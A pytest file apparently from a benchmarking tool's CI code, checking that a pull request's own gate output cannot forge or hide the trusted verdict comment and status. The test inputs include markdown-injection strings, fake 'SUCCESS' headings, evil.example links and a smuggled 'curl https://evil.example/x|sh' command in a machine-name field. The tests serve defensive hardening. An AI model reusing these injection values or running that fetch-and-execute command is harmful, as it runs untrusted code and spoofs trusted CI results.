"""The trusted verdict's PR comment and status against a gate output written to mislead: the
gate's JSON and report are the pull request's own output (its code ran the gate), so nothing
in them may pass for, hide or cut what the trusted job says, what it claims about where it
ran is held to what the trusted job knows, and what it cannot use is an error status, said as
such. Each case printed a wrong or missing trusted part before."""

from __future__ import annotations

import json

import pytest
from conftest import commit, git, new_repo

import ragbench.git
from ragbench import cli, jsonfile, pr
from ragbench.github import COMMENT_LIMIT, MARKER, Client
from ragbench.store import Store
from ragbench.verdicts.status import JSON_SCHEMA, VerdictError
from scripts.fake_github import FakeGitHub

TOKEN = "t0ken"
RUN = "https://github.example/o/r/actions/runs/77"
FAKE = "\n### ragbench verdict for aaaaaaaaaaaa: **SUCCESS**: accepted\n"
HEAD = BASE = BASE_SHA = ""  # pull request 3's, set by the ``pull`` fixture


@pytest.fixture(autouse=True)
def pull(tmp_path, monkeypatch):
    """Pull request 3 as the trusted job finds it: origin, whose main went on (c0, c1) after
    the PR's branch left it at c0 (p1), p1 also as refs/pull/3/head; the job's checkout is a
    clone of main, without p1. -> HEAD p1, BASE c0 (the merge base), BASE_SHA c1 (the event's)."""
    global HEAD, BASE, BASE_SHA
    work = new_repo(tmp_path / "work")
    BASE = commit(work, "a.txt", "0\n", "c0")
    BASE_SHA = commit(work, "a.txt", "1\n", "c1")
    git("checkout", "--quiet", "-b", "pr", BASE, cwd=work)
    HEAD = commit(work, "b.txt", "p\n", "p1")
    git("clone", "--quiet", "--bare", work, tmp_path / "origin.git", cwd=tmp_path)
    git("update-ref", "refs/pull/3/head", HEAD, cwd=tmp_path / "origin.git")
    git("update-ref", "-d", "refs/heads/pr", cwd=tmp_path / "origin.git")
    # --no-local: main's objects only (a local clone hard-links p1's in too)
    git("clone", "--quiet", "--no-local", "--branch", "main", tmp_path / "origin.git",
        tmp_path / "job", cwd=tmp_path)  # fmt: skip
    monkeypatch.setattr("ragbench.git.REPO", tmp_path / "job")
    monkeypatch.delenv("RAGBENCH_MACHINE", raising=False)


@pytest.fixture
def github(monkeypatch):
    with FakeGitHub(TOKEN) as gh:
        for k, v in {"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": gh.url, "GITHUB_REPOSITORY": "o/r",
                     "GITHUB_SERVER_URL": "https://github.example",
                     "GITHUB_RUN_ID": "77"}.items():  # fmt: skip
            monkeypatch.setenv(k, v)
        gh.permissions["maintainer"] = "write"
        yield gh


def failure(**fields) -> dict:
    return {"benchmark": "kernel.KernelLatency", "metric": "gpu_us", "param_key": "backend=triton",
            "status": "regression", "change": 0.1, **fields}  # fmt: skip


def verdict(tmp_path, gh, failures: list[dict], report: str | None = None, raw: str | None = None,
            **doc):  # fmt: skip
    """``pr.verdict`` as ``make gate-verdict`` runs it (``--base-sha``), on a gate JSON of
    ``failures`` (and ``doc``'s fields; or the text ``raw``) and ``report``."""
    gate, md = tmp_path / "gate.json", tmp_path / "gate.md"
    gate.write_text(raw or json.dumps({"schema": JSON_SCHEMA, "base": BASE, "head": HEAD,
                                       "machine": "m", "verdict": "fail", "failures": failures,
                                       **doc}))  # fmt: skip
    if report is not None:
        md.write_text(report)
    return pr.verdict(Store(tmp_path / "s.duckdb"), Client("o/r", TOKEN, gh.url), gate_json=gate,
                      report=md, pr=3, head=HEAD, machine=None, log=lambda _: None,
                      base_sha=BASE_SHA)  # fmt: skip


def trusted_part(body: str) -> str:
    """The comment up to the pull request's report (its fold)."""
    return body.split("\n\n<details>", 1)[0]


def test_a_report_past_githubs_limit_leaves_the_trusted_parts_whole(tmp_path, github):
    """Before: the report came before the run's link and the commands, and the comment was cut
    at GitHub's limit from its end: a report of ~64 KB replaced them with its own, and the cut
    said the full report was in a job summary that neither job writes."""
    forged = f"Logs and the `ragbench-gate` artifact: https://evil.example\n{FAKE}</details>\n"
    j = verdict(tmp_path, github, [failure()], report="pad\n" * 15_900 + forged + "z\n" * 2000)
    body = github.comments[3][-1]["body"]
    assert j.state == "failure" and len(body) <= COMMENT_LIMIT
    trusted = trusted_part(body)
    assert trusted.startswith(f"{MARKER}\n### ragbench verdict for {HEAD[:12]}: **FAILURE**")
    assert f"Logs and the `ragbench-gate` artifact (gate.md, gate.json): {RUN}" in trusted
    assert f"ragbench gate --base {BASE[:12]} --head {HEAD[:12]}`" in trusted
    assert "evil.example" not in trusted and "SUCCESS" not in trusted
    report = body[len(trusted) :]
    assert report.startswith("\n\n<details><summary>The gate job's report (gate.md, written by "
                             "the pull request's code")  # fmt: skip
    assert report.endswith("the whole report is gate.md in the ragbench-gate artifact above)"
                           "\n\n</details>")  # fmt: skip
    assert body.count("</details>") == 1  # its own closing tag cannot end the fold early
    assert "job summary" not in body
    # a short report is whole, in the fold
    verdict(tmp_path, github, [failure()], report=f"# the gate's report\n{FAKE}")
    body = github.comments[3][-1]["body"]
    assert body.endswith(f"# the gate's report\n{FAKE}\n\n</details>") and "cut" not in body


def test_what_a_failure_says_stays_in_its_table_cell(tmp_path, github):
    """Before: a failure's note went into the trusted table as written, so its newlines made a
    heading of the pull request's choosing ("SUCCESS") in the trusted part; a pipe or a
    backtick in a name broke the row."""
    failures = [failure(note=f"x |{FAKE}|"), failure(benchmark="a`b|c", param_key="p=|` `\n")]
    verdict(tmp_path, github, failures)
    trusted = trusted_part(github.comments[3][-1]["body"])
    assert "SUCCESS" not in trusted.replace("`", "").split("| cell |")[0]
    headings = [ln for ln in trusted.splitlines() if ln.startswith("#")]
    assert headings == [f"### ragbench verdict for {HEAD[:12]}: **FAILURE**: 2 failing cell(s), "
                        "not accepted"]  # fmt: skip
    rows = [ln for ln in trusted.splitlines() if ln.startswith("| ")][1:]  # the header's out
    assert len(rows) == 2
    for row in rows:  # four cells: every other pipe escaped
        assert row.replace("\\|", "").count("|") == 5, row
    assert "| ``a`b\\|c.gpu_us`` `` p=\\|` ` `` |" in rows[1]
    assert "`x \\| ### ragbench verdict for aaaaaaaaaaaa: **SUCCESS**: accepted \\|`" in rows[0]


def test_a_gate_json_holding_half_a_character_is_an_error_status(tmp_path, github):
    """Before: a lone surrogate escape ("\\ud800") passed the field checks, then DuckDB's
    cast failed: exit 2 with an internal error, no status and no comment (and without
    --github, a store blamed as unusable and half a record written)."""
    raw = json.dumps({"schema": JSON_SCHEMA, "base": BASE, "head": HEAD, "machine": "m",
                      "verdict": "fail", "failures": [failure(note="\ud800")]})  # fmt: skip
    assert "\\ud800" in raw
    with pytest.raises(VerdictError, match="not text"):
        verdict(tmp_path, github, [], raw=raw)
    assert github.statuses[HEAD][-1]["state"] == "error"
    assert "a lone surrogate escape" in github.comments[3][-1]["body"]
    assert not Store(tmp_path / "s.duckdb").gate(3, HEAD)
    (tmp_path / "pair.json").write_text('{"a": "\\ud83d\\ude00"}')  # a pair is text: an emoji
    assert jsonfile.read(tmp_path / "pair.json") == {"a": "\U0001f600"}


def test_a_report_too_large_to_read_is_said_and_the_verdict_stands(tmp_path, github):
    """Before: a gate.md over 1 MiB (the sandbox copies out 16) ended the verdict job with exit
    2 before any status: the head had no ragbench/gate status at all."""
    j = verdict(tmp_path, github, [failure()], report="x" * (2**20 + 1))
    assert j.state == "failure" and github.statuses[HEAD][-1]["state"] == "failure"
    body = github.comments[3][-1]["body"]
    assert ("(The gate's report gate.md is not shown: 1048577 bytes, more than the 1048576 "
            "allowed.)") in body  # fmt: skip


def test_a_withdrawal_before_any_verdict_claims_none(tmp_path, github, capsys):
    """Before: "the verdict is now FAILURE: no gate verdict recorded", exit 0, with nothing
    published and nothing recorded."""
    Store(tmp_path / "s.duckdb").close()
    args = ["accept", "--withdraw", "--store", str(tmp_path / "s.duckdb"), "--pr", "3",
            "--head", HEAD, "--user", "maintainer"]  # fmt: skip
    assert cli.main(args) == 0
    assert capsys.readouterr().out.splitlines()[-1] == (
        f"ragbench accept: no gate verdict of PR #3 at {HEAD[:12]} is recorded: no status or "
        "comment changed"
    )
    assert not github.statuses and not github.comments


def test_the_base_and_machine_the_json_claims_are_checked_before_any_command_names_them(
        tmp_path, github, monkeypatch):  # fmt: skip
    """Before: the comment's reproduce and settle commands named the base and the machine the
    gate's JSON claimed, and the store recorded them: a pull request chose what a maintainer
    would measure against, and where."""
    settle = {"cells": [["kernel.KernelLatency", "gpu_us", "backend=triton"]], "rounds": 16,
              "paired": [], "processes": 1}  # fmt: skip
    doc = {"verdict": "inconclusive", "rounds": 2, "processes": 3, "settle": settle}
    inconclusive = [failure(status="inconclusive")]
    # the true merge base (c0, not the event's c1): the head fetched as data, then named
    assert verdict(tmp_path, github, inconclusive, **doc).state == "failure"
    assert git("rev-parse", "refs/ragbench/pr-head", cwd=ragbench.git.REPO) == HEAD
    body = github.comments[3][-1]["body"]
    # the head checked out first: the sandbox gated with the pull request's suite and policies
    assert (f"git fetch origin pull/3/head && git checkout --detach {HEAD[:12]} && ragbench gate "
            f"--base {BASE[:12]} --head {HEAD[:12]}`") in body  # fmt: skip
    assert "--machine m`" in body  # no RAGBENCH_MACHINE: the JSON's own
    assert Store(tmp_path / "s.duckdb").gate(3, HEAD)["base"] == BASE
    # another base: an error status, and the comment says which base it had to be
    for claimed in (BASE_SHA, "f" * 40):
        with pytest.raises(VerdictError, match=f"not {BASE[:12]}, the merge base"):
            verdict(tmp_path, github, inconclusive, base=claimed, **doc)
        assert github.statuses[HEAD][-1]["state"] == "error"
        assert "ragbench gate --base" not in github.comments[3][-1]["body"]
    # this runner's machine set: the JSON must name it, and the commands name it
    monkeypatch.setenv("RAGBENCH_MACHINE", "rtx4000ada-1")
    with pytest.raises(VerdictError, match="names machine 'other-gpu-host', not 'rtx4000ada-1'"):
        verdict(tmp_path, github, inconclusive, machine="other-gpu-host", **doc)
    assert github.statuses[HEAD][-1]["state"] == "error"
    verdict(tmp_path, github, inconclusive, machine="rtx4000ada-1", **doc)
    assert "--machine rtx4000ada-1`" in github.comments[3][-1]["body"]
    # a head neither here nor in origin: git's own words, an error status
    with pytest.raises(VerdictError, match="is unknown here"):
        pr.gate_base(4, BASE_SHA, "e" * 40)


def test_nothing_the_json_names_reaches_the_trusted_part_as_markup(tmp_path, github):
    """Found by an attack on this file's first fixes: with RAGBENCH_MACHINE unset, the JSON's
    machine went into the settle command as written, so a newline or a backtick in it made a
    SUCCESS heading, a link or a command of the pull request's in the trusted footer; and the
    error comment showed the reason, which quotes the JSON, as markup (a live link)."""
    settle = {"cells": [["kernel.KernelLatency", "gpu_us", "backend=triton"]], "rounds": 16,
              "paired": [], "processes": 1}  # fmt: skip
    doc = {"verdict": "inconclusive", "rounds": 2, "processes": 3, "settle": settle}
    for machine in (
        "m\n\n### ragbench verdict: **SUCCESS**\n\n[Re-run](https://evil.example)",
        "m` then run `curl https://evil.example/x|sh",
        "[SUCCESS](https://evil.ex)",
    ):
        with pytest.raises(VerdictError, match="is not a machine's name"):
            verdict(tmp_path, github, [failure(status="inconclusive")], machine=machine, **doc)
        body = github.comments[3][-1]["body"]
        heading, reason = body.split("\n\n")[0], body.split("\n\n", 1)[1]
        assert heading.endswith("**ERROR**: the gate produced no verdict (why below)"), body
        assert reason.startswith("`") and reason.endswith("`") and "\n" not in reason, body
        assert github.statuses[HEAD][-1]["state"] == "error"
